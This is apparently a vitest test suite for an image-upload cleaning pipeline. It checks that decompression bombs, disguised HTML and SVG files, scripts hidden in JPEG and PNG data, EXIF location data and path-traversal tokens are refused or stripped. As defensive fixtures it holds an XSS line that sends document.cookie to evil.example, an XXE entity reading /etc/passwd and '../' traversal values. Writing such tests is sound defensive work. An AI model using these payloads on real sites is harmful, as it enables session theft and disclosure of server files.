import { readFile } from "node:fs/promises";
import { randomBytes } from "node:crypto";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { generalErrors } from "#domain/errors.ts";
import { organizationErrors } from "#domain/organizations/errors.ts";
import { responseErrors } from "#domain/responses/errors.ts";
import { maxUploadBytes } from "#domain/responses/upload.ts";
import type { RunningServer } from "#server/app/start-server.ts";
import { createLog } from "#server/platform/log.ts";
import { anIntakeDesk, pictureOf } from "#tools/testing/intake-desk.ts";
import { createTestDatabase } from "#tools/testing/test-database.ts";
import { startTestServer } from "#tools/testing/test-server.ts";
import { cleanUpload } from "#server/uploads/pipeline.ts";
import { responseUploads } from "./uploads.ts";
import { openCleaner } from "#server/uploads/cleaning/image-cleaner.ts";
import {
  aBomb,
  aJpeg,
  aJpegWithPlace,
  aLyingJpeg,
  aPlainJpeg,
  aPng,
  whereItWasTaken,
} from "#tools/testing/hostile-files.ts";
import { isNightly } from "#tools/testing/nightly.ts";

let server: RunningServer;
const pids: number[] = [];
const cleaner = openCleaner({
  log: createLog({ LOG_LEVEL: "silent" }),
  onStart: (pid) => pids.push(pid),
  // One that has grown is looked at before it is let go of.
  largestMegabytes: Number.POSITIVE_INFINITY,
});
beforeAll(async () => {
  server = await startTestServer(await createTestDatabase(), { roles: ["api"] });
});
afterAll(async () => {
  await cleaner.close();
  await server.close();
});

async function attackWith(bytes: Buffer) {
  const desk = await anIntakeDesk(server);
  const id = await desk.send(bytes);
  const key = { organizationId: desk.camp.id, id };
  await cleanUpload({ ...server.deps, cleaner }, responseUploads, key, new AbortController().signal);
  // Originals of refused files stay in quarantine for a day.
  const kept = (await desk.storedKeys()).filter((stored) => !stored.startsWith("incoming/"));
  const pictures = await Promise.all(
    (["full", "view", "small"] as const).map((kind) => desk.stored(id, kind)),
  );
  const upload = await desk.upload(id);
  return {
    state: upload?.state,
    why: upload?.why,
    kept,
    responses: await desk.responses(),
    pictures: pictures.filter((bytes) => bytes !== undefined),
  };
}

/** The most that the process which opens files has ever held, in megabytes. */
async function largestMegabytes(): Promise<number> {
  const statuses = (await withChildren(String(pids.at(-1)))).map((pid) =>
    readFile(`/proc/${pid}/status`, "utf8"),
  );
  const peaks = (await Promise.all(statuses)).map((status) => Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1]));
  return Math.max(...peaks) / 1024;
}

/** A sandbox runs the decoder in a process of its own. */
async function withChildren(pid: string): Promise<string[]> {
  const children = (await readFile(`/proc/${pid}/task/${pid}/children`, "utf8")).split(" ").filter(Boolean);
  return [pid, ...(await Promise.all(children.map(withChildren))).flat()];
}

const text = (words: string) => () => Buffer.from(words);
const script = "<script>fetch('https://evil.example/?'+document.cookie)</script>";

describe("what is refused", () => {
  test.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ["a PNG of 30,000 × 30,000 dots, all of them there", () => aBomb(30_000), "too-many-pixels"],
    [
      "a PNG of 65,000 × 65,000 that has hardly any",
      () => aPng(65_000, 65_000, Buffer.alloc(9_000)),
      "too-many-pixels",
    ],
    ["a JPEG that says it is 65,500 × 65,500", () => aLyingJpeg(65_500), "too-many-pixels"],
    [
      "a ribbon longer than any picture",
      () => aPng(1_000_000, 40, Buffer.alloc(40 * 125_001)),
      "too-many-pixels",
    ],
    ["one byte", text("x"), "not-a-picture"],
    ["SVG", text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), "not-a-picture"],
    [
      "SVG that reads a file",
      text('<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg/>'),
      "not-a-picture",
    ],
    ["a page named .jpg", text(`<!doctype html>${script}`), "not-a-picture"],
    ["a PDF", text("%PDF-1.7\n"), "not-a-picture"],
    ["a GIF", () => aJpeg(40, 40).gif().toBuffer(), "not-a-picture"],
    ["a TIFF", () => aJpeg(40, 40).tiff().toBuffer(), "not-a-picture"],
    [
      "the head of a JPEG before a page",
      () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(script)]),
      "broken",
    ],
    [
      "the head of a PNG before noise",
      () => Buffer.concat([Buffer.from("\x89PNG\r\n\x1A\n", "latin1"), randomBytes(5_000)]),
      "broken",
    ],
    [
      "the head of a WebP before noise",
      () => Buffer.concat([Buffer.from("RIFF\x10\0\0\0WEBPVP8 ", "latin1"), randomBytes(5_000)]),
      "broken",
    ],
    ["half of a JPEG", async () => (await aJpeg().toBuffer()).subarray(0, 40_000), "broken"],
    ["half of a PNG", async () => (await aJpeg().png().toBuffer()).subarray(0, 100_000), "broken"],
    ["half of a WebP", async () => (await aJpeg().webp().toBuffer()).subarray(0, 8_000), "broken"],
  ])("%s", async (_, make, why) => {
    const { state, why: sentence, kept, responses } = await attackWith(await make());
    expect({ state, message: sentence, kept, responses }).toEqual({
      state: "refused",
      message: why,
      kept: [],
      responses: [],
    });
    // What it costs to say no is what an idle process holds.
    expect(await largestMegabytes()).toBeLessThan(260);
  });
});

describe("what is cleaned", () => {
  test.each<[string, () => Promise<Buffer>, string[]]>([
    ["place, time and camera", aJpegWithPlace, [whereItWasTaken, "Telephone", "Exif", "xmpmeta"]],
    [
      "a script behind its end",
      async () => Buffer.concat([await aJpeg().toBuffer(), Buffer.from(script)]),
      ["<script>"],
    ],
    [
      "a script in a comment",
      async () => {
        const bytes = await aJpeg().toBuffer();
        const comment = Buffer.from(`\xFF\xFE\0${String.fromCharCode(script.length + 2)}${script}`, "latin1");
        return Buffer.concat([bytes.subarray(0, 2), comment, bytes.subarray(2)]);
      },
      ["<script>"],
    ],
    [
      "a page behind a PNG",
      async () => Buffer.concat([await aJpeg().png().toBuffer(), Buffer.from(script)]),
      ["<script>"],
    ],
  ])("%s is gone, the picture is there", async (_, make, words) => {
    const bytes = await make();
    for (const word of words.slice(0, 1)) expect(bytes.includes(word)).toBe(true);
    const { state, pictures, responses } = await attackWith(bytes);
    expect(state).toBe("filed");
    expect(responses).toHaveLength(1);
    expect(pictures).toHaveLength(3);
    for (const picture of pictures) {
      expect(words.filter((word) => picture.includes(word))).toEqual([]);
      const { exif, xmp, iptc, icc, orientation, comments } = await sharp(picture).metadata();
      expect({ exif, xmp, iptc, icc, orientation, comments }).toEqual({});
    }
  });

  test.runIf(isNightly)(
    "the largest picture that is allowed, without taking the machine along",
    async () => {
      const { state, responses } = await attackWith(await aPlainJpeg(8_600, 5_800));
      expect(state).toBe("filed");
      expect(responses[0]).toMatchObject({ width: 8_600, height: 5_800 });
      expect(await largestMegabytes()).toBeLessThan(800);
    },
    120_000,
  );
});

describe("what never gets in", () => {
  test.each([
    ["nothing at all", { size: 0 }],
    ["a hundred megabytes", { size: 100 * 1024 * 1024 }],
    ["one byte too many", { size: maxUploadBytes + 1 }],
    ["half a byte", { size: 1.5 }],
    ["an SVG that says so", { contentType: "image/svg+xml" }],
    ["a page that says so", { contentType: "text/html" }],
    ["a hash that is none", { sha256: "00" }],
    ["a token with a path in it", { token: "../../../../x" }],
    ["a sheet with a path in it", { sheetId: "../" }],
  ])("%s is not even given a link", async (_, more) => {
    const desk = await anIntakeDesk(server);
    const input = { ...desk.paper, ...pictureOf(Buffer.from("x")), ...more };
    expect(await desk.http("initSheetUploadHttp", input)).toEqual({
      status: 400,
      text: generalErrors.badRequest.message,
    });
    expect(await desk.uploads()).toEqual([]);
  });

  test.each([
    ["longer", Buffer.alloc(2_000_000)],
    ["shorter", Buffer.alloc(10)],
    ["nothing", Buffer.alloc(0)],
  ])("a file that is %s, unlike what was declared", async (_, sent) => {
    const desk = await anIntakeDesk(server);
    const issued = await desk.init(randomBytes(1_000));
    // The connection may be cut before the whole body was sent.
    const status = await desk.put(issued, sent).catch(() => 403);
    expect(status).toBe(403);
    expect(await desk.storedKeys()).toEqual([]);
    await expect(desk.complete(issued.storagePath)).rejects.toThrow(responseErrors.notUploaded.message);
  });

  test("a second file over the first, while its link still lives", async () => {
    const desk = await anIntakeDesk(server);
    const bytes = await aJpeg().toBuffer();
    const issued = await desk.init(bytes);
    expect(await desk.put(issued, bytes)).toBe(200);
    expect(await desk.put(issued, Buffer.alloc(bytes.length))).toBe(412);
  });

  test("a user of another camp, with the token of a sheet that they photographed", async () => {
    const desk = await anIntakeDesk(server);
    const input = { ...desk.paper, ...pictureOf(Buffer.from("x")) };
    const no = { status: 404, text: organizationErrors.notFound.message };
    expect(await desk.http("initSheetUploadHttp", input, desk.camp.stranger)).toEqual(no);
    const foreign = await anIntakeDesk(server);
    const own = { ...input, ...foreign.place };
    expect(await foreign.http("initSheetUploadHttp", own)).toEqual({
      status: 404,
      text: responseErrors.sheetNotFound.message,
    });
  });

  test("a token that is used again brings another page of its own sheet, and nothing else", async () => {
    const desk = await anIntakeDesk(server);
    const sent = [
      await desk.send(await aJpeg(40, 40).toBuffer()),
      await desk.send(await aJpeg(50, 50).toBuffer()),
    ];
    for (const id of sent) await desk.clean(id);
    const filed = await desk.responses();
    expect(filed.map(({ page, contactId }) => [page, contactId])).toEqual([
      [1, desk.contact.id],
      [2, desk.contact.id],
    ]);
  });
});
